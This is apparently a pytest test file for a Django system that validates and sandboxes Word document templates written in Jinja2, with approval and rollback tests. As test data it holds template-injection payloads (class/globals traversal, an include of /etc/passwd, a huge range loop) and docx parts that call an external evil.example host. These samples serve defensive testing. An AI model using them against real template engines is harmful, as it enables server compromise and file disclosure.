"""A master is somebody's file: what it may say, what it must not, who agrees, and how one goes back."""

import io
import re
import zipfile
from collections.abc import Callable
from types import SimpleNamespace
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import IntegrityError, transaction
from django.test import Client
from docx import Document as Word
from jinja2.exceptions import SecurityError, TemplateError, UndefinedError

from qinglian.web.accounts.models import User
from qinglian.web.core.moves import NotAllowed, Overtaken
from qinglian.web.core.uploads import Stored, upload_store
from qinglian.web.documents.models import Document, Master
from qinglian.web.documents.printing.checking import complaints
from qinglian.web.documents.printing.fields import sample
from qinglian.web.documents.printing.general import general_master
from qinglian.web.documents.printing.word import environment, word
from qinglian.web.documents.services import moving
from qinglian.web.documents.services.masters import (
    master_bytes,
    master_decide,
    master_go_back,
    master_propose,
)
from qinglian.web.documents.views.printing import master_of

Browser = Callable[[User], Client]


def changed(*, add: str = "", name: str = "", part: str = "", said: str = "") -> bytes:
    """The general master with a paragraph more, a part more, or a text changed in a part."""
    made: Any = Word(io.BytesIO(general_master()))
    if add:
        made.add_paragraph(add)
    out = io.BytesIO()
    made.save(out)
    if not name:
        return out.getvalue()
    with zipfile.ZipFile(out) as packed:
        parts = {one: packed.read(one) for one in packed.namelist()}
    parts[name] = (
        said.encode() if said and not part else parts[name].replace(part.encode(), said.encode())
    )
    again = io.BytesIO()
    with zipfile.ZipFile(again, "w") as packed:
        for one, raw in parts.items():
            packed.writestr(one, raw)
    return again.getvalue()


def said(master: bytes) -> str:
    return "\n".join(str(one) for one in complaints(master))


def test_the_general_master_passes_its_own_check() -> None:
    assert complaints(general_master()) == []
    assert complaints(changed(add="{% if 抄送 and not 主送 %}抄送 {{ 抄送 }}{% endif %}")) == []


@pytest.mark.parametrize(
    ("add", "words"),
    [
        ("甲方：{{ 领导姓名 }}", "没有名为“领导姓名”的字段.*甲方：{{ 领导姓名 }}"),
        ("{{ 标题.__class__ }}", "只能写字段和条件.*标题.__class__"),
        ("{{ 标题|upper }}", "标题|upper"),
        ("{{ ''.join(标题) }}", "join"),
        ("{% for x in range(999999999) %}x{% endfor %}", "range"),
        ("{% set x = 1 %}", "只能写字段和条件"),
        ("{% include '/etc/passwd' %}", "只能写字段和条件|字段写法"),
        ("{{ 标题", "字段写法不对"),
        ("{% if 标题 %}没有结尾", "字段写法不对"),
        ("{{ 正文 }}", "独占一段"),
        ("监察建议书", "监察建议"),
        ("纪律 检查 建议书", "监察建议"),
        ("机密★10年", "国家秘密"),
    ],
)
def test_what_a_master_may_not_say(add: str, words: str) -> None:
    assert re.search(words, said(changed(add=add)))


@pytest.mark.parametrize(
    ("name", "part", "text", "words"),
    [
        ("word/vbaProject.bin", "", "x", "带有宏"),
        ("word/embeddings/oleObject1.bin", "", "x", "嵌入的文件"),
        (
            "word/_rels/settings.xml.rels", "",
            '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            'attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>',
            "外部的图片或模板.*evil.example",
        ),
        (
            "word/document.xml", "<w:body>",
            '<w:body><w:p><w:r><w:instrText>INCLUDEPICTURE "http://evil.example/x.png"</w:instrText></w:r></w:p>',
            "取用外部内容",
        ),
        ("word/document.xml", "{{p 正文 }}", "示例", "缺少字段：正文"),
        ("word/styles.xml", "清廉表格", "别的", "缺少段落样式：清廉表格"),
    ],
)  # fmt: skip
def test_what_a_master_may_not_hold(name: str, part: str, text: str, words: str) -> None:
    assert re.search(words, said(changed(name=name, part=part, said=text)))


def test_what_is_no_word_file_is_said_in_one_sentence() -> None:
    assert said(b"PK\x03\x04 broken") == "打不开，不是完好的 Word 文件（.docx）。"


@pytest.mark.parametrize(
    "attack",
    [
        "{{ ''.__class__.__mro__ }}", "{{ 标题.__init__.__globals__ }}", "{{ cycler }}", "{{ self }}",
        "{{ 二维码.tpl.docx }}", "{{ lipsum.__globals__ }}", "{% import 'x' as y %}", "{{ [].append(1) }}",
        "{{ 正文.__html__.__func__.__globals__ }}", "{{ range(3) }}", "{{ dict() }}", "{{ 标题|attr('x') }}",
        "{{ namespace() }}", "{{ 正文.unescape().format('x') }}",
    ],
)  # fmt: skip
def test_nothing_breaks_out_even_past_the_check(attack: str) -> None:
    """A master that came into the table without the check still finds no way out of the sandbox."""
    assert complaints(changed(add=attack))
    try:
        made = word(sample(), changed(add=attack))
    except (SecurityError, UndefinedError, TemplateError, TypeError):
        return
    text = "\n".join(one.text for one in Word(io.BytesIO(made)).paragraphs)
    assert "globals" not in text
    assert "<class" not in text
    assert "object at" not in text


def test_the_environment_knows_nothing() -> None:
    made = environment()
    assert (made.globals, made.filters, made.tests) == ({}, {}, {})


@pytest.fixture
def file(cast: SimpleNamespace) -> Callable[..., Stored]:
    def make(content: bytes = b"", name: str = "示例母版.docx") -> Stored:
        content = content or changed(add="本县母版")
        return upload_store(
            SimpleUploadedFile(name, content), by=cast.signer, kinds=frozenset({"docx"})
        )

    return make


def proposed(
    file: Callable[..., Stored], by: User, kind: str = "task_order", mark: str = "本县母版"
) -> Master:
    return master_propose(kind_code=kind, stored=file(changed(add=mark)), by=by, why="按本县格式")


def text_of(document: Document) -> str:
    from qinglian.web.documents.printing.fields import printed

    made = Word(io.BytesIO(word(printed(document), master_of(document))))
    return "\n".join(one.text for one in made.paragraphs)


def test_another_person_agrees_and_one_goes_back(
    file: Callable[..., Stored], cast: SimpleNamespace, paper: Document
) -> None:
    one = proposed(file, cast.signer)
    assert "本县母版" not in text_of(paper)
    with pytest.raises(NotAllowed, match="提出人以外"):
        master_decide(master=one, by=cast.signer, agree=True)
    with pytest.raises(NotAllowed, match="不办理"):
        master_decide(master=one, by=cast.officer, agree=True)
    with pytest.raises(NotAllowed, match="等待批准"):
        proposed(file, cast.checker)
    master_decide(master=one, by=cast.checker, agree=True)
    with pytest.raises(Overtaken):
        master_decide(master=one, by=cast.checker, agree=False, answer="示例")
    assert "本县母版" in text_of(paper)

    two = proposed(file, cast.checker, mark="第二份母版")
    master_decide(master=two, by=cast.signer, agree=True)
    assert "第二份母版" in text_of(paper)
    back = master_go_back(
        kind_code="task_order", number=one.number, by=cast.signer, why="第二份不好用"
    )
    master_decide(master=back, by=cast.checker, agree=True)
    assert "本县母版" in text_of(paper)
    none = master_go_back(kind_code="task_order", number=0, by=cast.signer, why="恢复")
    master_decide(master=none, by=cast.checker, agree=True)
    assert "母版" not in text_of(paper)
    assert [row.number for row in Master.objects.order_by("number")] == [1, 2, 3, 4]


def test_the_general_master_serves_every_kind_without_its_own(
    file: Callable[..., Stored], cast: SimpleNamespace
) -> None:
    general = proposed(file, cast.signer, kind="")
    master_decide(master=general, by=cast.checker, agree=True)
    assert Master.objects.in_force("task_order") == general
    own = proposed(file, cast.signer)
    master_decide(master=own, by=cast.checker, agree=False, answer="不要")
    assert Master.objects.in_force("task_order") == general
    assert b"PK" in (master_bytes(general) or b"")[:2]


def test_a_paper_keeps_the_master_it_was_submitted_with(
    file: Callable[..., Stored], cast: SimpleNamespace, paper: Document
) -> None:
    one = proposed(file, cast.signer)
    master_decide(master=one, by=cast.checker, agree=True)
    moving.document_submit(document=paper, by=cast.drafter)
    two = proposed(file, cast.signer, mark="第二份母版")
    master_decide(master=two, by=cast.checker, agree=True)
    paper.refresh_from_db()
    assert "本县母版" in text_of(paper)


def test_who_proposes(file: Callable[..., Stored], cast: SimpleNamespace) -> None:
    for who in (cast.officer, cast.bureau_head, cast.admin):
        with pytest.raises(NotAllowed):
            proposed(file, who)
    one = proposed(file, cast.signer)
    with pytest.raises(IntegrityError), transaction.atomic():
        Master.objects.filter(pk=one.pk).update(decided_by=cast.signer)


def test_the_page_says_all_that_is_wrong_at_once(cast: SimpleNamespace, signed_in: Browser) -> None:
    bad = changed(add="{{ 甲 }} {{ 乙 }}")
    answer = signed_in(cast.signer).post(
        "/documents/masters/propose/",
        {"kind_code": "", "why": "示例", "file": SimpleUploadedFile("母版.docx", bad)},
    )
    page = answer.content.decode()
    assert answer.status_code in (200, 422)
    assert "没有名为“甲”的字段" in page
    assert "没有名为“乙”的字段" in page
    assert not Master.objects.exists()
    good = signed_in(cast.signer).post(
        "/documents/masters/propose/",
        {
            "kind_code": "",
            "why": "示例",
            "file": SimpleUploadedFile("母版.docx", changed(add="好")),
        },
    )
    assert good.status_code == 302
    assert Master.objects.get().name == "母版.docx"
